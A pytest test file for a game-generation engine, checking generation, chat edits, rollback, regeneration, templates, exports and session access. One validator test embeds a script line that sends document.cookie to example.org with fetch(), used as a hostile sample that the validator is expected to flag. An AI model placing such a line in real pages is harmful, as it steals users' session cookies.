"""The engine from outside: what a person asks for, what is answered, and what the documents really say."""

import difflib
from pathlib import Path

import pytest

from graph.errors import NotFound, RequestRefused, SessionGone, SessionRequired
from graph.storage.blobs import digest
from templates.catalog import templates
from tests.graph.conftest import WISH, Desk, Json, open_desk

DESCRIPTION = (
    "Create a blue platformer game where the player jumps on green platforms to reach a golden coin at the top"
)
PASTED = (
    "\ufeff<!DOCTYPE html>\r\n<html><head><title>Pasted &amp; kept</title></head><body><canvas id=c></canvas>\r\n"
    "<script>\r\nconst speed = 3;\t// Grüße \u2028\r\nconst c = document.getElementById('c').getContext('2d');\r\n"
    "function frame() { c.fillRect(speed, 0, 9, 9); requestAnimationFrame(frame); }\r\nframe();\r\n"
    "</script></body></html>"
).encode()


def differing(old: bytes, new: bytes) -> list[int]:
    """1-based numbers of the new document's lines that differ."""
    matcher = difflib.SequenceMatcher(None, old.split(b"\n"), new.split(b"\n"), autojunk=False)
    return [line + 1 for tag, _, _, j1, j2 in matcher.get_opcodes() if tag != "equal" for line in range(j1, j2)]


def named(answer: Json) -> list[int]:
    """The lines that an answer says it changed."""
    changes = answer["modifications"]["changes"]
    return sorted({line for change in changes for line in change["code_location"]["line_numbers"]})


async def test_generate_makes_the_game_that_was_described(desk: Desk) -> None:
    made = await desk.generate(DESCRIPTION)
    assert (made["version"], made["outcome"], made["session_id"]) == (1, "applied", desk.session_id)
    assert made["metadata"]["game_type"] == "platformer"
    assert made["metadata"]["engine"] == "phaser3"
    assert made["metadata"]["template_used"] == "basic_platformer"
    assert made["conversation_context"]["initial_prompt"] == DESCRIPTION
    assert made["validation_results"]["security_score"] == 100
    data = await desk.document(made["game_id"])
    assert made["game_code"].encode() == data
    assert made["metadata"]["code_size"] == len(data)
    game = await desk.game(made["game_id"])
    assert game["current_version"] == 1
    assert game["rollback_options"]["available_versions"] == [1]
    assert game["rollback_options"]["can_rollback"] is False


async def test_what_was_not_measured_is_null_and_says_why(desk: Desk) -> None:
    made = await desk.generate()
    assert made["metadata"]["performance_score"] is None
    assert "metadata.performance_score" in made["not_measured"]
    assert made["playtest"]["status"] == "skipped"
    assert made["playtest"]["reason"]


async def test_a_wish_changes_exactly_its_places(desk: Desk) -> None:
    game_id = (await desk.generate(DESCRIPTION))["game_id"]
    told = await desk.chat(WISH)
    old, new = await desk.document(game_id, 1), await desk.document(game_id, 2)
    assert told["outcome"] == "applied"
    assert told["version_info"] == {
        "previous_version": 1,
        "new_version": 2,
        "rollback_available": True,
        "change_history_id": "mod_002",
    }
    changes = told["modifications"]["changes"]
    assert [(change["entity"], change["property"]) for change in changes] == [("player", "color"), ("player", "jump")]
    assert named(told) == differing(old, new)
    assert told["modifications"]["total_lines_changed"] == len(named(told)) == 2
    expected = old
    for change in changes:
        where = change["code_location"]
        lines = new.decode().splitlines()
        assert lines[where["line_numbers"][0] - 1].strip().startswith(where["after"].splitlines()[0].strip()[:20])
        expected = expected.replace(where["before"].encode(), where["after"].encode(), 1)
    assert expected == new  # outside of the named places every byte is the same
    assert told["preservation"]["bytes_outside_identical"] is True


async def test_several_wishes_in_a_row_each_stand_on_the_one_before(desk: Desk) -> None:
    game_id = (await desk.generate())["game_id"]
    for number, message in enumerate(("Make the player red", "Add more enemies", "Make the coins bigger"), 2):
        told = await desk.chat(message)
        assert told["version_info"]["new_version"] == number
        assert told["version_info"]["previous_version"] == number - 1
        old, new = await desk.document(game_id, number - 1), await desk.document(game_id, number)
        assert named(told) == differing(old, new) != []
        assert told["game_code"].encode() == new


@pytest.mark.parametrize(
    ("message", "outcome"),
    [
        ("How fast is the player?", "answered"),
        ("hello", "answered"),
        ("thank you", "answered"),
        ("add online multiplayer", "refused"),
        ("make the thing bigger", "asked"),
    ],
)
@pytest.mark.parametrize("preview", [False, True])
async def test_an_answer_that_changes_nothing_has_a_shape_too(
    desk: Desk, message: str, outcome: str, preview: bool
) -> None:
    made = await desk.generate()
    told = await desk.chat(message, modification_preferences={"preview_only": preview})
    assert told["outcome"] == outcome
    assert told["response"]
    assert told["modifications"]["changes"] == []
    assert told["modifications"]["total_lines_changed"] == 0
    assert told["version_info"]["new_version"] == told["version_info"]["previous_version"] == 1
    assert told["version_info"]["change_history_id"] is None
    assert told["game_code"] == made["game_code"]
    assert told["play_url"] == made["play_url"]
    assert (await desk.game(made["game_id"]))["rollback_options"]["available_versions"] == [1]


async def test_a_question_back_lists_what_can_be_meant(desk: Desk) -> None:
    await desk.generate()
    told = await desk.chat("make the thing bigger")
    assert {"player", "platforms"} <= {candidate["entity"] for candidate in told["candidates"]}
    assert all(candidate["line"] > 0 and candidate["snippet"] for candidate in told["candidates"])


async def test_what_is_understood_is_done_and_the_rest_is_named(desk: Desk) -> None:
    await desk.generate()
    told = await desk.chat("Make the player red and make the dragon bigger")
    assert told["outcome"] == "partly"
    assert [change["entity"] for change in told["modifications"]["changes"]] == ["player"]


async def test_undo_brings_the_version_before_back_as_a_new_one(desk: Desk) -> None:
    game_id = (await desk.generate())["game_id"]
    await desk.chat("Make the player red")
    await desk.chat("Make the player green")
    told = await desk.chat("undo that")
    assert told["version_info"]["new_version"] == 4
    assert await desk.document(game_id, 4) == await desk.document(game_id, 2)
    assert named(told) == differing(await desk.document(game_id, 3), await desk.document(game_id, 4))
    again = await desk.chat("undo that")  # not the undo is undone, but what was before it
    assert await desk.document(game_id, 5) == await desk.document(game_id, 1) == again["game_code"].encode()
    history = (await desk.game(game_id))["version_history"]
    assert [entry["restored_from"] for entry in history] == [None, None, None, 2, 1]
    assert [entry["parent"] for entry in history] == [None, 1, 2, 3, 4]


async def test_an_undo_at_the_beginning_changes_nothing(desk: Desk) -> None:
    await desk.generate()
    told = await desk.chat("undo that")
    assert told["version_info"]["new_version"] == 1
    assert told["modifications"]["changes"] == []


async def test_a_preview_of_an_undo_commits_nothing(desk: Desk) -> None:
    game_id = (await desk.generate())["game_id"]
    await desk.chat("Make the player red")
    told = await desk.chat("undo that", modification_preferences={"preview_only": True})
    assert told["outcome"] == "previewed"
    assert told["game_code"].encode() == await desk.document(game_id, 1)
    assert named(told) == differing(await desk.document(game_id, 2), await desk.document(game_id, 1))
    assert (await desk.game(game_id))["rollback_options"]["available_versions"] == [1, 2]


async def test_go_back_to_a_version_in_words(desk: Desk) -> None:
    game_id = (await desk.generate())["game_id"]
    for message in ("Make the player red", "Make the player green"):
        await desk.chat(message)
    told = await desk.chat("go back to version 2")
    assert told["version_info"]["new_version"] == 4
    assert await desk.document(game_id) == await desk.document(game_id, 2)
    nowhere = await desk.chat("go back to version 17")
    assert nowhere["version_info"]["new_version"] == 4
    assert nowhere["modifications"]["changes"] == []


async def test_rollback_appends_and_forgets_nothing(desk: Desk) -> None:
    game_id = (await desk.generate())["game_id"]
    await desk.chat("Make the player red")
    before = await desk.messages()
    told = await desk.done("rollback", {"game_id": game_id, "version": 1})
    assert (told["new_version"], told["restored_from"]) == (3, 1)
    assert told["game_code"].encode() == await desk.document(game_id, 1)
    assert told["version_info"]["previous_version"] == 2
    assert told["total_lines_changed"] == 1
    assert (await desk.messages())[: len(before)] == before  # it adds what it did, and forgets nothing
    history = (await desk.game(game_id))["version_history"]
    assert [entry["version"] for entry in history] == [1, 2, 3]
    assert len({entry["play_url"] for entry in history}) == 3


async def test_rollback_to_where_the_game_is_changes_no_byte(desk: Desk) -> None:
    game_id = (await desk.generate())["game_id"]
    told = await desk.done("rollback", {"game_id": game_id, "version": 1})
    assert (told["new_version"], told["total_lines_changed"]) == (2, 0)


async def test_rollback_to_a_version_that_is_not_there(desk: Desk) -> None:
    game_id = (await desk.generate())["game_id"]
    with pytest.raises(NotFound) as caught:
        await desk.run("rollback", {"game_id": game_id, "version": 9})
    assert caught.value.what == "version"


async def test_regenerate_takes_what_both_engines_have_along(desk: Desk) -> None:
    game_id = (await desk.generate(DESCRIPTION))["game_id"]
    await desk.chat("Make the player orange")
    told = await desk.done("regenerate", {"game_id": game_id, "modifications": {"change_engine": "three.js"}})
    assert told["new_version"] == 3
    assert told["regeneration_summary"]["engine_changed"] == "phaser3 → three.js"
    knobs = templates()["three_platformer"].config.variables
    assert "player.color" in {variable.path for variable in knobs.values()}
    assert "#ff8c1a" in told["game_code"]
    game = await desk.game(game_id)
    assert game["metadata"]["engine"] == "three.js"
    assert game["metadata"]["template_used"] == "three_platformer"
    assert (await desk.chat("Make the player red"))["version_info"]["new_version"] == 4
    back = await desk.done("rollback", {"game_id": game_id, "version": 1})
    assert back["new_version"] == 5
    assert (await desk.game(game_id))["metadata"]["engine"] == "phaser3"


async def test_regenerate_for_an_engine_without_template_is_refused(desk: Desk) -> None:
    made = await desk.generate("a racing game")
    game_id = made["game_id"]
    request: Json = {"game_id": game_id, "modifications": {"change_engine": "three.js"}}
    error = await desk.error("regenerate", request)
    assert (error["code"], error["field"]) == ("request-refused", "modifications.change_engine")
    assert "phaser3" in error["detail"]  # it says what there is
    assert (await desk.game(game_id))["rollback_options"]["available_versions"] == [1]
    assert await desk.document(game_id) == made["game_code"].encode()
    assert (await desk.chat("Make the player red"))["version_info"]["new_version"] == 2


async def test_regenerate_on_a_canvas_keeps_what_was_set(desk: Desk) -> None:
    made = await desk.generate("a breakout with a green ball")
    game_id = made["game_id"]
    assert made["metadata"]["engine"] == "canvas"
    await desk.chat("Make the paddle red")
    asked: Json = {"change_engine": "canvas", "new_features": ["2d_graphics"]}
    told = await desk.done("regenerate", {"game_id": game_id, "modifications": asked})
    assert told["regeneration_summary"]["engine_changed"] == "canvas, as before"
    assert told["regeneration_summary"]["features_added"] == ["2d_graphics"]
    assert told["compatibility"]["performance_requirements"] == "Canvas 2D"
    assert "#e74c3c" in told["game_code"]
    assert "#2ecc71" in told["game_code"]
    error = await desk.error("regenerate", {"game_id": game_id, "modifications": {"change_engine": "three.js"}})
    assert error["detail"].startswith("There is no arcade game for three.js; it can be made with canvas.")


async def test_regenerate_says_what_it_did_and_what_it_did_not(desk: Desk) -> None:
    game_id = (await desk.generate(preferences={"style": "flat"}))["game_id"]
    asked: Json = {"enhance_graphics": True, "optimization": "performance", "new_features": ["pause", "time_travel"]}
    told = await desk.done("regenerate", {"game_id": game_id, "modifications": asked})
    assert told["regeneration_summary"] == {
        "engine_changed": "phaser3, as before",
        "graphics_enhanced": True,
        "performance_optimized": True,
        "features_added": ["pause"],
    }
    assert any("time_travel" in note for note in told["migration_notes"])


async def test_a_pasted_game_is_kept_byte_for_byte(desk: Desk) -> None:
    made = await desk.done("import", {"html": PASTED.decode(), "title": "Mine"})
    assert made["version"] == 1
    assert made["metadata"]["title"] == "Mine"
    assert await desk.document(made["game_id"]) == PASTED
    told = await desk.chat("How fast is the player?")
    assert told["game_code"].encode() == PASTED


async def test_preview_changes_nothing_and_shows_the_candidate(desk: Desk) -> None:
    made = await desk.generate()
    told = await desk.chat(WISH, modification_preferences={"preview_only": True})
    assert told["outcome"] == "previewed"
    assert named(told) == differing(made["game_code"].encode(), told["game_code"].encode()) != []
    assert told["version_info"]["new_version"] == 1
    assert (await desk.game(made["game_id"]))["rollback_options"]["available_versions"] == [1]
    assert (await desk.document(made["game_id"])) == made["game_code"].encode()
    done = await desk.chat(WISH)
    assert done["game_code"] == told["game_code"]  # what was promised is what is made


async def test_a_template_is_processed_by_its_variables(desk: Desk) -> None:
    html = templates()["basic_platformer"].html
    told = await desk.engine.process_template(
        "basic_platformer", {"player_color": "red", "coin_count": 9}, {"add_sound": False}
    )
    assert told["processing_summary"]["variables_substituted"] == 2
    assert told["processing_summary"]["customizations_applied"] == 1
    assert told["processing_summary"]["validation_passed"] is True
    assert told["warnings"] == []
    assert len(differing(html, told["processed_code"].encode())) == 3
    again = await desk.engine.process_template("basic_platformer", {}, {})
    assert again["processed_code"].encode() == html
    assert (await desk.engine.get_template("basic_platformer"))["usage_stats"]["usage_count"] == 2


@pytest.mark.parametrize(
    ("name", "value"),
    [
        ("player_speed", 10_000),
        ("player_speed", "fast"),
        ("player_speed", True),
        ("player_color", "no colour"),
        ("player_color", 5),
        ("style", "baroque"),
        ("sound_enabled", "yes"),
        ("no_such_variable", 1),
    ],
)
async def test_a_value_that_a_variable_does_not_take_is_refused_by_name(
    desk: Desk, name: str, value: str | float | bool
) -> None:
    with pytest.raises(RequestRefused) as caught:
        await desk.engine.process_template("basic_platformer", {"coin_count": 5, name: value}, {})
    assert caught.value.field == f"variables.{name}"
    assert name in str(caught.value)


async def test_what_a_template_cannot_be_customised_in_is_a_warning(desk: Desk) -> None:
    told = await desk.engine.process_template(
        "basic_platformer", {}, {"weather": "rain", "performance_mode": "quality"}
    )
    assert len(told["warnings"]) == 1
    assert "weather" in told["warnings"][0]


async def test_an_export_needs_no_network(desk: Desk) -> None:
    made = await desk.generate()
    exported = await desk.engine.export(made["game_id"], session_id=None, version=None)
    assert made["assets"]["external_libraries"][0] in made["game_code"]
    assert b"<script src=" not in exported.data
    assert b"cdn.jsdelivr.net/npm/phaser" not in exported.data.split(b"const CONFIG")[-1]
    assert len(exported.data) > 500_000
    assert await desk.document(made["game_id"]) == made["game_code"].encode()  # only the copy was changed


async def test_a_diff_names_every_line(desk: Desk) -> None:
    game_id = (await desk.generate())["game_id"]
    await desk.chat(WISH)
    told = await desk.engine.get_diff(game_id, session_id=None, from_version=1, to_version=2)
    old, new = await desk.document(game_id, 1), await desk.document(game_id, 2)
    assert [line for c in told["changes"] for line in c["code_location"]["line_numbers"]] == differing(old, new)
    marks = [line for line in told["unified"].splitlines() if line[:1] in "+-" and line[:3] not in ("+++", "---")]
    assert len(marks) == 4
    nothing = await desk.engine.get_diff(game_id, session_id=None, from_version=2, to_version=2)
    assert (nothing["unified"], nothing["changes"], nothing["lines_changed"]) == ("", [], 0)


async def test_a_play_page_is_the_version_with_its_engine_from_here(desk: Desk) -> None:
    made = await desk.generate()
    play_id = made["play_url"].removeprefix("/play/")
    page = await desk.engine.get_play(play_id, "http://game.test")
    assert page.engine_addresses == ("http://game.test/engines/phaser@3.90.0/dist/",)
    assert made["game_id"].encode() not in page.data
    assert desk.session_id.encode() not in page.data
    with pytest.raises(NotFound) as caught:
        await desk.engine.get_play(made["game_id"], "http://game.test")  # a game's id opens no page
    assert caught.value.what == "play"


async def test_chat_without_a_game_makes_one(desk: Desk) -> None:
    told = await desk.chat("a space shooter with purple enemies")
    assert told["version_info"]["new_version"] == 1
    assert (await desk.game(told["game_id"]))["metadata"]["game_type"] == "shooter"
    assert (await desk.chat("Make the player red"))["game_id"] == told["game_id"]


async def test_a_game_that_is_not_the_current_one_can_be_named(desk: Desk) -> None:
    first, second = await desk.generate("a platformer"), await desk.generate("a shooter")
    told = await desk.chat("Make the player red", game_id=first["game_id"])
    assert told["game_id"] == first["game_id"]
    assert (await desk.game(second["game_id"]))["current_version"] == 1
    listed = (await desk.engine.list_games(desk.session_id))["games"]
    assert [game["game_id"] for game in listed] == [second["game_id"], first["game_id"]]


async def test_an_unknown_template_is_not_found(desk: Desk) -> None:
    with pytest.raises(NotFound) as caught:
        await desk.run("generate", {"description": "a game", "template_id": "no_such"})
    assert caught.value.what == "template"


async def test_a_game_of_another_session_does_not_exist(desk: Desk) -> None:
    game_id = (await desk.generate())["game_id"]
    other = Desk(desk.engine, (await desk.engine.create_session({}, {}))["session_id"])
    with pytest.raises(NotFound):
        await other.chat("Make the player red", game_id=game_id)
    with pytest.raises(NotFound):
        await other.document(game_id)
    assert (await other.engine.get_document(game_id, session_id=None, version=None)).version == 1  # the id is the right


async def test_strict_access_wants_the_session(tmp_path: Path) -> None:
    async with open_desk(tmp_path, game_access="strict") as desk:
        game_id = (await desk.generate())["game_id"]
        with pytest.raises(SessionRequired):
            await desk.engine.get_document(game_id, session_id=None, version=None)
        assert await desk.document(game_id)


async def test_a_deleted_session_leaves_its_games(desk: Desk) -> None:
    made = await desk.generate()
    told = await desk.engine.delete_session(desk.session_id, force=False, backup=False)
    assert told["cleanup_summary"]["game_data_backed_up"] is False
    assert told["backup_location"] is None
    with pytest.raises(SessionGone):
        await desk.chat("Make the player red")
    kept = await desk.engine.get_document(made["game_id"], session_id=None, version=None)
    assert digest(kept.data) == digest(made["game_code"].encode())


async def test_validate_says_what_it_finds(desk: Desk) -> None:
    good = (await desk.engine.validate(templates()["basic_platformer"].html.decode()))["validation_results"]
    assert (good["passed"], good["security_score"]) == (True, 100)
    script = "<script>\nfetch('https://example.org/?' + document.cookie);\n</script>"
    page = f"<!doctype html><title>x</title><body>{script}</body>"
    bad = (await desk.engine.validate(page))["validation_results"]
    assert bad["security_score"] < 100
    assert any(finding["line"] == 2 for finding in bad["findings"])


async def test_templates_are_listed_by_either_name_of_a_difficulty(desk: Desk) -> None:
    everything = await desk.engine.list_templates(category=None, difficulty=None, engine=None)
    assert everything["total"] == len(everything["templates"]) == 6
    easy = await desk.engine.list_templates(category=None, difficulty="easy", engine=None)
    assert easy == await desk.engine.list_templates(category=None, difficulty="beginner", engine=None)
    assert 0 < easy["total"] < 6
    assert (await desk.engine.template_preview("basic_platformer")).startswith(b"\x89PNG")
